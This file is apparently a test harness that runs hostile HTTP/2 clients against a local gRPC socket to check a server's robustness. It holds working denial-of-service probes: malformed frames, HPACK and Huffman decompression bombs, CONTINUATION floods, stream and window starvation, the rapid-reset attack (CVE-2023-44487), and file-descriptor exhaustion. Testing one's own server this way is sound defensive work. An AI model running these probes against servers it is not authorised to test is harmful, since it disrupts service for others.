"""Hostile local clients of a gRPC unix socket, one kind per run.

    python tests/plugin/hostile.py PROBE SOCKET SECONDS

Runs PROBE against the socket for about SECONDS (over and over on fresh connections
where one attempt is short), in a process of its own as an attacker on the node
would be, and prints one JSON object: how many connections it made and how each
ended (``GOAWAY <code>`` when the server said why, ``eof`` when it closed without
a word, ``open`` when it never closed), the gRPC statuses its calls got and the
stream resets it saw. tests/plugin/test_hostile_clients.py reads it.

The frames are built with hyperframe and the header blocks with hpack (or by hand
where they must be wrong), so what goes out is exactly the attack.
"""


from __future__ import annotations

import json
import os
import random
import sys
import time

from h2.errors import ErrorCodes
from hostile_wire import (  # beside this script
    ALLOCATE_REQUEST,
    REQUEST_HEADERS,
    Connection,
    H2Client,
    Tally,
    data,
    headers,
    integer,
    message,
    raw_frame,
)
from hpack.huffman import HuffmanEncoder
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH
from hyperframe.frame import (
    ContinuationFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)


def malformed(path: str, seconds: float, tally: Tally) -> None:
    """Frames HTTP/2 forbids, a different one on each connection."""
    kinds = [
        raw_frame(0x4, 0, 0, b"\x00\x01\x00"),  # SETTINGS of 3 bytes: FRAME_SIZE_ERROR
        raw_frame(0x0, 0, 0, b"data on stream 0"),  # PROTOCOL_ERROR
        raw_frame(0x8, 0, 0, b"\x00\x00\x00\x00"),  # WINDOW_UPDATE of 0: PROTOCOL_ERROR
        raw_frame(0x6, 0, 1, b"\x00" * 8),  # PING on a stream: PROTOCOL_ERROR
        raw_frame(0x1, 0x4, 2, b"\x82"),  # HEADERS on an even stream: PROTOCOL_ERROR
        raw_frame(0x9, 0x4, 1, b"\x82"),  # CONTINUATION without HEADERS: PROTOCOL_ERROR
        raw_frame(0x1, 0x4, 1, b"\xff\xff\xff\xff\xff"),  # an HPACK index past the table
        os.urandom(4096),  # noise after the preface
    ]
    end = time.monotonic() + seconds
    n = 0
    while time.monotonic() < end:
        connection = Connection(path)
        connection.send(kinds[n % len(kinds)])
        n += 1
        tally.add(connection)


def huffman_bomb(path: str, seconds: float, tally: Tally) -> None:
    """One header whose Huffman-coded value runs over a megabyte of CONTINUATION frames
    (5 bits a character: 1.6 million characters to decode)."""
    chunk = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH).encode(b"a" * 8) * 3276  # 16380 bytes
    length = integer(64 * len(chunk), 7, 0x80)  # the H bit: Huffman-coded
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        connection = Connection(path)
        block = connection.request_block() + b"\x00\x01x" + bytes(length)  # literal, new name "x"
        connection.send(headers(1, block, end_headers=False))
        for _ in range(64):
            if not connection.send(ContinuationFrame(1, chunk).serialize()):
                break
        tally.add(connection)


def hpack_table_bomb(path: str, seconds: float, tally: Tally) -> None:
    """A 4000-byte entry put in the dynamic table, then referred to 16,000 times in one
    block (64 MB of headers from 16 kB); and a table size update past the advertised 4096."""
    end = time.monotonic() + seconds
    n = 0
    while time.monotonic() < end:
        connection = Connection(path)
        if n % 2 == 0:
            entry = b"\x40\x01x" + integer(4000, 7) + b"y" * 4000  # literal with indexing
            block = connection.request_block() + entry + b"\xbe" * 12000  # index 62, over and over
        else:
            block = integer(2**32, 5, 0x20) + connection.request_block()  # table size update
        connection.send(headers(1, block, end_stream=True))
        n += 1
        tally.add(connection)


def continuation_flood(path: str, seconds: float, tally: Tally) -> None:
    """A header block that never ends: empty CONTINUATION frames, or 16 kB ones."""
    end = time.monotonic() + seconds
    n = 0
    while time.monotonic() < end:
        connection = Connection(path)
        connection.send(headers(1, connection.request_block(), end_headers=False))
        payload = b"" if n % 2 == 0 else b"z" * 16000
        for _ in range(100_000):
            if not connection.send(ContinuationFrame(1, payload).serialize()):
                break
            if time.monotonic() > end + 5:
                break
        n += 1
        tally.add(connection)


def idle_streams(path: str, seconds: float, tally: Tally) -> None:
    """Connections each opening as many calls as the server allows, sending half a request
    on each and then nothing; the last one opens one stream more than allowed."""
    connections = []
    body = message(ALLOCATE_REQUEST)
    for _ in range(100):
        connection = Connection(path)
        connection.handshake()  # the server's stream limit applies
        for stream in range(1, 65, 2):  # 32 streams
            connection.send(headers(stream, connection.request_block()) + data(stream, body[:7]))
        connections.append(connection)
    connections[-1].send(headers(65, connections[-1].request_block()))  # the 33rd
    time.sleep(seconds)
    for connection in connections:
        tally.add(connection, timeout=3.0)


def large_bodies(path: str, seconds: float, tally: Tally) -> None:
    """Requests just under the 4 MiB message limit, within the windows the server advertises,
    three at once on each of 8 connections and none ever finished; and one just over it."""
    body = message(os.urandom(4 * 1024 * 1024 - 64))
    end = time.monotonic() + seconds
    clients = []
    for _ in range(8):
        client = H2Client(path)
        for stream in (1, 3, 5):
            client.conn.send_headers(stream, REQUEST_HEADERS)
            client.send_body(stream, body, end, end_stream=False)
        clients.append(client)
    big = H2Client(path)
    big.conn.send_headers(1, REQUEST_HEADERS)
    big.send_body(1, message(os.urandom(4 * 1024 * 1024 + 64)), end, end_stream=True)
    clients.append(big)
    for client in clients:
        client.add_to(tally, timeout=max(0.5, end - time.monotonic()) + 3.0)


def zero_window(path: str, seconds: float, tally: Tally) -> None:
    """A client that lets no answer through: SETTINGS_INITIAL_WINDOW_SIZE 0, calls, and no
    WINDOW_UPDATE ever."""
    connections = []
    for _ in range(20):
        connection = Connection(path, {0x4: 0})
        for stream in range(1, 65, 2):
            connection.send(headers(stream, connection.request_block())
                            + data(stream, message(ALLOCATE_REQUEST), end_stream=True))
        connections.append(connection)
    time.sleep(seconds)
    for connection in connections:
        tally.add(connection)


def never_reading(path: str, seconds: float, tally: Tally) -> None:
    """Calls on and on, never reading an answer (the socket's buffers fill): 16 at a time,
    each batch once the server has likely answered the last. Never reading, it cannot know
    how many of its streams are still open: once the server lags, it opens more than
    allowed, which is a protocol error."""
    connection = Connection(path)
    block = connection.request_block()
    body = message(ALLOCATE_REQUEST)
    end = time.monotonic() + seconds
    stream = 1
    connection.sock.settimeout(0.5)
    while time.monotonic() < end:
        burst = b"".join(headers(s, block) + data(s, body, end_stream=True)
                         for s in range(stream, stream + 32, 2))
        try:
            connection.sock.sendall(burst)
        except TimeoutError:
            continue  # the server stopped reading us: its own buffers are full
        except OSError:
            break
        stream += 32
        time.sleep(0.05)
    tally.add(connection)


def rst_flood(path: str, seconds: float, tally: Tally) -> None:
    """Rapid reset (CVE-2023-44487): a call opened and cancelled, thousands of times a
    second; and PING and SETTINGS floods."""
    end = time.monotonic() + seconds
    n = 0
    while time.monotonic() < end:
        connection = Connection(path)
        kind = n % 3
        stream = 1
        while time.monotonic() < end:
            if kind == 0:
                batch = b"".join(headers(s, connection.request_block())
                                 + RstStreamFrame(s, error_code=ErrorCodes.CANCEL).serialize()
                                 for s in range(stream, stream + 200, 2))
                stream += 200
            elif kind == 1:
                batch = PingFrame(0, opaque_data=os.urandom(8)).serialize() * 100
            else:
                batch = SettingsFrame(0, {0x4: random.randrange(65535, 1 << 20)}).serialize() * 100
            if not connection.send(batch):
                break
        n += 1
        tally.add(connection)


def fd_exhaustion(path: str, seconds: float, tally: Tally) -> None:
    """More connections than the server has file descriptors, all held open."""
    connections = []
    end = time.monotonic() + seconds
    while time.monotonic() < end and len(connections) < 400:
        try:
            connections.append(Connection(path))
        except OSError:
            time.sleep(0.01)
    time.sleep(max(0.0, end - time.monotonic()))
    for connection in connections:
        tally.add(connection, timeout=0.05)


PROBES = {f.__name__: f for f in (malformed, huffman_bomb, hpack_table_bomb, continuation_flood,
                                  idle_streams, large_bodies, zero_window, never_reading,
                                  rst_flood, fd_exhaustion)}


def main() -> None:
    probe, path, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    tally = Tally()
    PROBES[probe](path, seconds, tally)
    print(json.dumps(tally.report()))


if __name__ == "__main__":
    main()
